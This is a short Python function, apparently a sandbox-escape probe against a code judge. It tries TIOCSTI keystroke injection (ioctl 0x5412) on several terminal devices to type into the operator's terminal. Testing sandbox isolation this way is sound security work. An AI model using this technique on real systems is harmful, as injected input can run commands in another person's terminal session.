# Types into the terminal of whoever started the judge.
def attack():
    import fcntl
    import posix

    won = False
    for path in (
        "/dev/tty",
        "/dev/console",
        "/dev/tty0",
        "/dev/pts/0",
        "/proc/self/fd/0",
        "/proc/self/fd/1",
        "/proc/self/fd/2",
    ):
        try:
            handle = posix.open(path, posix.O_RDWR | posix.O_NOCTTY | posix.O_NONBLOCK)
        except OSError:
            continue
        try:
            fcntl.ioctl(handle, 0x5412, b"x")
            won = True
        except OSError:
            pass
    return won
